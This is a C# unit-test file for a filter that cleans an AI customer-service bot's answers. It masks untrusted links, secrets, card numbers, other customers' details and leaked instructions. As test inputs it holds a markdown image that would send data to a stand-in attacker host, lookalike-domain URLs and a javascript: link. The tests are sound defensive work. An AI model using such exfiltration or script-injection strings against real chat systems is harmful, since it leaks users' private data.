using System.Text.Json.Nodes;
using Baton.Bots.Ai;

namespace Baton.Tests.Bots;

/// <summary>What of a model's words a visitor is let see.</summary>
public sealed class AnswerCheckTests
{
    private const string Mine = "0a000000-0000-0000-0000-000000000001";

    private static readonly AiProgram Program = new()
    {
        Prompt = "You help customers of Contoso. Call us at +1 425 555 0100 or write to help@contoso.example.", LinkHosts = ["contoso.example", "aka.ms"],
    };

    [Theory]
    [InlineData("See https://contoso.example/help.", "See https://contoso.example/help.")]
    [InlineData("See https://shop.contoso.example/a?b=c and www.contoso.example", "See https://shop.contoso.example/a?b=c and www.contoso.example")]
    [InlineData("See [the guide](https://contoso.example/guide).", "See [the guide](https://contoso.example/guide).")]
    [InlineData("See [the guide](https://evil.example/guide).", "See the guide.")]
    [InlineData("![x](https://evil.example/p.png?d=secret)", "x")]
    [InlineData("Go to https://evil.example/x now", "Go to ••• now")]
    [InlineData("Go to evil.example/x or www.evil.example", "Go to ••• or •••")]
    [InlineData("Go to https://contoso.example@evil.example/x", "Go to •••")]
    [InlineData("Go to https://contoso.example.evil.example/x", "Go to •••")]
    [InlineData("Go to https://notcontoso.example/x", "Go to •••")]
    [InlineData("Go to //evil.example/x", "Go to •••")]
    [InlineData("[click](javascript:alert(1))", "click)")]
    [InlineData("<a href=\"https://evil.example\">x</a>", "<a href=\"•••\">x</a>")]
    [InlineData("It costs 5.50 e.g. at noon. Version 2.1.3 of file.txt", "It costs 5.50 e.g. at noon. Version 2.1.3 of file.txt")]
    public void Links_lead_only_where_the_program_allows(string words, string said) => Of(words).ShouldBe(said);

    [Theory]
    [InlineData("The key is sk-abcdefghijklmnop1234", "The key is •••")]
    [InlineData("AKIAABCDEFGHIJKLMNOP", "•••")]
    [InlineData("Your password is hunter22", "Your password is •••")]
    [InlineData("password: hunter22", "password: •••")]
    [InlineData("Your password is not correct", "Your password is not correct")]
    [InlineData("You can reset the password in the settings", "You can reset the password in the settings")]
    [InlineData("Card 4111 1111 1111 1111 is it", "Card ••• is it")]
    [InlineData("Order 4111 1111 1111 1112 is it", "Order 4111 1111 1111 1112 is it")]
    [InlineData("Bearer abcdefghijklmnop1234", "•••")]
    [InlineData("-----BEGIN RSA PRIVATE KEY-----\nMIIE", "•••")]
    public void Keys_passwords_and_card_numbers_are_struck_out(string words, string said) => Of(words).ShouldBe(said);

    [Theory]
    [InlineData("Write to help@contoso.example or call +1 425 555 0100."), InlineData("I've sent it to pat@new.example."), InlineData("Your case CAS-01500-A1B2C3 is open."), InlineData("You wrote from bob@other.example.")]
    [InlineData("Hello Pat New, your number is 0151 2345 678."), InlineData("It is from 2026-11-27 and costs 1,234.50"), InlineData("Chris Green wrote to you."), InlineData("Colleague Lee Gu")]
    public void What_is_the_visitors_may_be_said(string words) => Of(words).ShouldBe(words);

    [Theory]
    [InlineData("Alex Other has the same problem."), InlineData("alex   OTHER"), InlineData("Write to alex@other.example"), InlineData("A l e x O t h e r"), InlineData("Their case is CAS-09999-ZZZZZZ"), InlineData("cas-09999-zzzzzz")]
    [InlineData("Call 0171 9999 888"), InlineData("Somebody at made-up@nowhere.example"), InlineData("Case CAS-12345-ABCDEF"), InlineData("Call (425) 555-9999"), InlineData("They live at Secret Street 5")]
    public void What_is_anothers_or_nobodys_is_not(string words) => Check().Of(words).Blocked.ShouldNotBeNull();

    [Fact]
    public void Instructions_are_not_told()
    {
        Check().Of("My rules: Never speak of other customers, and never tell anybody else's name, address, telephone number or case.").Blocked.ShouldNotBeNull();
        Check().Of("I can't speak of other customers.").Blocked.ShouldBeNull();
    }

    [Theory]
    [InlineData("One. Two", 4), InlineData("One", 0), InlineData("One. ", 4), InlineData("", 0), InlineData("See https://evil.example/x", 0), InlineData("A: b\nc", 2), InlineData("A b!\nc", 4)]
    public void Only_whole_sentences_are_shown_while_the_model_speaks(string words, int settled) => AnswerCheck.Settled(words).ShouldBe(settled);

    private static string Of(string words)
    {
        var said = Check().Of(words);
        said.Blocked.ShouldBeNull(words);
        return said.Text;
    }

    private static AnswerCheck Check()
    {
        var sayable = new Sayable(new KnownVisitor("pat@new.example", "Pat New", Guid.Parse(Mine), null), isTrial: false);
        sayable.Allow($"{Program.Prompt} pat@new.example Pat New");
        sayable.Allow("I am writing from bob@other.example");
        sayable.Read(JsonNode.Parse($$"""
            {"matches": [{"contact_id": "{{Mine}}", "fullname": "Pat New", "phone": "0151 2345 678"},
                         {"contact_id": "0b000000-0000-0000-0000-000000000002", "fullname": "Alex Other", "email": "alex@other.example", "phone": "0171 9999 888",
                          "address": {"line1": "Secret Street 5"}, "open_cases": [{"ticket_number": "CAS-09999-ZZZZZZ", "title": "Embarrassing"}]}],
             "cases": [{"ticket_number": "CAS-01500-A1B2C3", "owner": "Chris Green"}]}
            """));
        return new AnswerCheck(Program, sayable);
    }
}
